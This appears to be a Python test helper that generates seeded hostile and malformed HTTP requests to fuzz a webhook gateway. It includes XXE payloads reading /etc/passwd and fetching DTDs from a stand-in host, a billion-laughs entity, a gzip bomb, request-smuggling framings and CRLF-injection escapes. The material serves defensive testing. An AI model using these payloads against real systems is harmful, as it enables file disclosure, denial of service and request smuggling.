"""Broken and hostile forms of an operator's recorded requests, drawn by a seeded random: the same
seed gives the same bytes. Nothing is sent here; hostile_test.py does that.
"""
import gzip
import random
import re
from dataclasses import dataclass, field, replace

CANARY = "Zzcanary7741"
_HUGE = 9000            # over what a field may hold
_BODY_MAX = 64 * 1024   # of the gateway


@dataclass(frozen=True)
class Request:
    """One request as it should be; `raw` is sent instead when it is set."""
    channel: str
    method: str
    rest: str
    query: str
    headers: tuple
    body: bytes
    raw: bytes = b""
    framing: tuple = field(default=None)  # instead of Content-Length

    @property
    def type(self) -> str:
        return next((value for name, value in self.headers if name == "Content-Type"), "")

    def bytes(self) -> bytes:
        if self.raw:
            return self.raw
        target = f"/callbacks/{self.channel}{self.rest}" + (f"?{self.query}" if self.query else "")
        framing = self.framing
        if framing is None:
            framing = (("Content-Length", str(len(self.body))),) if self.body else ()
        lines = [f"{self.method} {target} HTTP/1.1", "Host: jisr"]
        lines += [f"{name}: {value}" for name, value in (*self.headers, *framing)]
        return "\r\n".join(lines).encode("utf-8", "surrogateescape") + b"\r\n\r\n" + self.body

    def with_type(self, value: str) -> "Request":
        rest = tuple(pair for pair in self.headers if pair[0] != "Content-Type")
        return replace(self, headers=(*rest, ("Content-Type", value)))

    def with_header(self, name: str, value: str) -> "Request":
        return replace(self, headers=(*self.headers, (name, value)))


def recorded(provider: dict, channel: str) -> list:
    """The requests of one provider as tests/wire has them; see tests/support/wire_rows."""
    requests = []
    for row in provider["rows"]:
        rest = ("/receipts" if row["receipt"] and provider["receipts"] else "") + row["rest"]
        headers = tuple((name, value) for name, value in row["headers"])
        body = bytes.fromhex(row["body"])
        if len(body) <= _BODY_MAX:
            requests.append(Request(channel, row["method"], rest, row["query"], headers, body))
    return requests


def _damage(request, draw):
    text = bytearray(request.body or request.query.encode())
    for _ in range(draw.randint(1, 4)):
        if text:
            at = draw.randrange(len(text))
            text[at:at + draw.randint(0, 3)] = bytes([draw.randrange(256)])
    if request.body:
        return replace(request, body=bytes(text))
    return replace(request, query=bytes(text).decode("latin1"))


def _cut(request, draw):
    if request.body:
        return replace(request, body=request.body[:draw.randrange(len(request.body))])
    return replace(request, query=request.query[:draw.randrange(len(request.query) + 1)])


def _twice(request, draw):
    """A field that comes twice, with another value."""
    if request.body.startswith(b"{"):
        names = re.findall(rb'"(\w+)":', request.body)
        name = draw.choice(names) if names else b"a"
        return replace(request, body=b'{"' + name + b'":"' + CANARY.encode() + b'",'
                       + request.body[1:])
    if "xml" in request.type or request.body.startswith(b"<"):
        return replace(request, body=request.body + request.body)
    fields = (request.body.decode("latin1") if request.body else request.query).split("&")
    again = "&".join([*fields, draw.choice(fields).split("=")[0] + "=" + CANARY])
    if request.body:
        return replace(request, body=again.encode("latin1"))
    return replace(request, query=again)


def _other_type(request, draw):
    return request.with_type(draw.choice([
        "application/json", "text/xml", "text/plain", "application/x-www-form-urlencoded",
        "multipart/form-data; boundary=x", "application/octet-stream", "text/html",
        "application/json; charset=utf-16", "application/*+json", ";;;", "a" * 300]))


def _charset(request, draw):
    text = request.body.decode("utf-8", "replace") or "a=é"
    encoding = draw.choice(["utf-16", "utf-16-be", "utf-32", "utf-7", "cp1256", "cp037"])
    return replace(request, body=text.encode(encoding, "replace"))


_BYTES = [b"\xff", b"\xc0\x80", b"\xed\xa0\x80", b"\xf5\x80\x80\x80", b"\xe2\x82", b"\x00",
          b"\x1b[2J", b"\r\n\r\n", b"\xef\xbb\xbf", "\u202e".encode(), "\u0000".encode()]
_ESCAPES = ["%", "%z", "%zz", "%u0641", "%2541", "%c0%af", "%00", "%ff", "%0d%0aX: y", "+%2B+",
            "&&=&"]


def _bytes(request, draw):
    """Bytes that are no UTF-8, NUL, controls, a terminal's escape; in a GET as escapes."""
    if not request.body:
        return _escapes(request, draw)
    at = draw.randrange(len(request.body) + 1)
    return replace(request, body=request.body[:at] + draw.choice(_BYTES) + request.body[at:])


def _escapes(request, draw):
    piece = draw.choice(_ESCAPES)
    text = request.body.decode("latin1") if request.body else request.query
    at = draw.randrange(len(text) + 1)
    text = text[:at] + piece + text[at:]
    if not request.body:
        return replace(request, query=re.sub(r"[\r\n ]", "", text))
    if b"{" in request.body and draw.random() < 0.5:
        text = text.replace('"', '"\\u0000' if draw.random() < 0.5 else '"\\ud800', 1)
    return replace(request, body=text.encode("latin1"))


def _huge(request, draw):
    filler = CANARY * (draw.choice([_HUGE, _BODY_MAX, 3 * _BODY_MAX]) // len(CANARY))
    if request.body:
        at = draw.randrange(len(request.body) + 1)
        return replace(request, body=request.body[:at] + filler.encode() + request.body[at:])
    return replace(request, query=request.query + filler)


def _deep(request, draw):
    depth = draw.choice([17, 40, 1000, 10_000])
    json_body = draw.choice([b'{"a":' * depth + b"1" + b"}" * depth, b"[" * depth + b"]" * depth,
                             b"[" * depth, b'{"a":[' + b"1," * 5000 + b"1]}"])
    depth //= 2
    xml_body = draw.choice([b"<a>" * depth + b"</a>" * depth, b"<a>" * depth,
                            b"<a>" + b"<b/>" * 5000 + b"</a>", b"<a " + b"b='c' " * 5000 + b"/>"])
    xml = "xml" in request.type or request.body.startswith(b"<")
    body = (xml_body if xml else json_body)[:_BODY_MAX]
    kind = request.type or ("text/xml" if xml else "application/json")
    return replace(request.with_type(kind), body=body)


_DTDS = [
    b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    b'<!DOCTYPE a SYSTEM "http://192.0.2.1/a.dtd"><a/>',
    b'<!DOCTYPE a [<!ENTITY % p SYSTEM "http://192.0.2.1/p"> %p;]><a/>',
    b"<!DOCTYPE a [<!ENTITY a0 'ha'>" + b"".join(
        b"<!ENTITY a%d '&a%d;&a%d;&a%d;'>" % (i + 1, i, i, i) for i in range(30))
    + b"]><a>&a30;</a>",
    b"<?xml version='1.0' encoding='UTF-7'?><a/>",
    b"<?xml version='1.0' encoding='UTF-16'?><a/>",
    b"<?xml-stylesheet href='http://192.0.2.1/'?><a xmlns:xi='http://www.w3.org/2001/XInclude'>"
    b"<xi:include href='file:///etc/passwd' parse='text'/></a>",
    b"<a><![CDATA[" + b"]]" * 100 + b"</a>",
    b"<a>&#0;&#xD800;&#x110000;&bad;&amp</a>",
]


def _dtd(request, draw):
    dtd = draw.choice(_DTDS)
    body = dtd
    if request.body.startswith(b"<"):  # before what was recorded, with the entity in a value
        plain = re.sub(rb"^<\?xml.*?\?>\s*", b"", request.body)
        head = dtd.split(b"]>")[0] + b"]>" if b"]>" in dtd else b""
        body = draw.choice([dtd, head + re.sub(rb">[^<>]+<", b">&a30;&x;<", plain, count=1)])
    kind = request.type if "xml" in request.type else "text/xml"
    return replace(request.with_type(kind), body=body)


_BOMB = gzip.compress(b"\0" * 5_000_000, mtime=0)


def _packed(request, draw):
    packed = draw.choice([gzip.compress(request.body or b"a=b", mtime=0), _BOMB])
    coding = draw.choice(["gzip", "deflate", "br", "gzip, gzip", "identity"])
    return replace(request, body=packed).with_header("Content-Encoding", coding)


def _length(request, draw):
    wrong = draw.choice(["0", "1", str(len(request.body) + 50), "-1", "+5", "5 5", "0x10", "5,5",
                         "99999999999999999999", "1e3", "", "65537"])
    framing = [("Content-Length", wrong)]
    if draw.random() < 0.3:
        framing.append(("Content-Length", str(len(request.body))))
    return replace(request, framing=tuple(framing), method="POST")


def _chunked(request, draw):
    body = request.body or b"a=b"
    size = b"%x" % len(body)
    whole = size + b"\r\n" + body + b"\r\n0\r\n\r\n"
    framing = [("Transfer-Encoding", draw.choice(
        ["chunked", "chunked", "chunked, chunked", "xchunked", "gzip, chunked", "identity",
         "\tchunked", "chunked;q=1", "CHUNKED"]))]
    body = draw.choice([
        whole, whole, whole.replace(size, size + b";a=b", 1), whole.replace(b"\r\n", b"\n"),
        b"-1\r\n" + body, b"ffffffffffffffff\r\n" + body, size + b"\r\n" + body,
        b"1\r\nx\r\n" * 2000 + b"0\r\n\r\n", whole[:-2] + b"X-Trailer: a\r\n\r\n"])
    if draw.random() < 0.3:
        framing.append(("Content-Length", "3"))
    return replace(request, framing=tuple(framing), body=body, method="POST")


def _fields(request, draw):
    made = draw.choice(["many", "long", "host", "fold", "colon", "control", "same", "name"])
    if made == "many":
        flood = tuple((f"X-{i}", CANARY) for i in range(draw.choice([90, 120, 300])))
        return replace(request, headers=(*request.headers, *flood))
    name, value = {"long": ("X-Long", "a" * 9000), "host": ("Host", "other"),
                   "fold": ("X-Fold", "a\r\n b"), "colon": ("X Y", "a"),
                   "control": ("X-Control", "a\x01b"), "same": ("Authorization", "Bearer x"),
                   "name": ("X-\u00e9", "a")}[made]
    return request.with_header(name, value)


def _target(request, draw):
    rest = draw.choice(["/../demo", "//", "/%2e%2e/a", "/%zz", "/a#b", "/\u00e9", "/" + "a" * 9000,
                        "/a/b/c/d/e/f/g/h/i/j", "/receipts/../..", "/ HTTP/1.1", ";x=y", "?" * 50])
    return replace(request, rest=request.rest + rest)


def _method(request, draw):
    return replace(request, method=draw.choice(
        ["PUT", "DELETE", "PATCH", "HEAD", "OPTIONS", "TRACE", "post", "Post", "X" * 50, "PRI"]))


def _smuggled(request, draw):
    """A second request where the first one's body ends, or where a careless proxy thinks so."""
    inner = b"GET /callbacks/nobody HTTP/1.1\r\nHost: jisr\r\n\r\n"
    plain = replace(request, method="POST", body=inner)
    return draw.choice([
        plain,
        replace(plain, framing=(("Content-Length", "0"),)),
        replace(plain, framing=(("Content-Length", "4"), ("Transfer-Encoding", "chunked"))),
        replace(plain, body=b"0\r\n\r\n" + inner, framing=(("Transfer-Encoding", "chunked"),)),
        replace(plain, framing=(("Transfer-Encoding", "chunked "), ("Content-Length", "5"))),
        replace(plain, framing=(("Content-Length ", str(len(inner))),)),
    ])


def _no_http(request, draw):
    return replace(request, raw=draw.choice([
        b"GET /\r\n", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
        b"\x16\x03\x01\x02\x00\x01\x00" + b"\0" * 40,
        b"GET / HTTP/9.9\r\nHost: a\r\n\r\n", b"\r\n\r\n\r\n", b"\0" * 100, b"A" * 20_000,
        b"POST /callbacks/x HTTP/1.1\nHost: a\n\n", b"GET / HTTP/1.1\r\n\r\n",
        b"GET  / HTTP/1.1\r\n\r\n",
        b"CONNECT a:1 HTTP/1.1\r\nHost: a\r\n\r\n", b"GET http://a/ HTTP/1.1\r\nHost: a\r\n\r\n"]))


MUTATIONS = (_damage, _cut, _twice, _other_type, _charset, _bytes, _escapes, _huge, _deep, _dtd,
             _packed, _length, _chunked, _fields, _target, _method, _smuggled, _no_http)


def hostile(requests: list, count: int, seed: str):
    """`count` times the name of a mutation and a broken request."""
    draw = random.Random(seed)
    for number in range(count):
        mutation = MUTATIONS[number % len(MUTATIONS)]
        broken = mutation(draw.choice(requests), draw)
        if draw.random() < 0.2:
            broken = _damage(broken, draw)
        yield mutation.__name__.strip("_"), broken
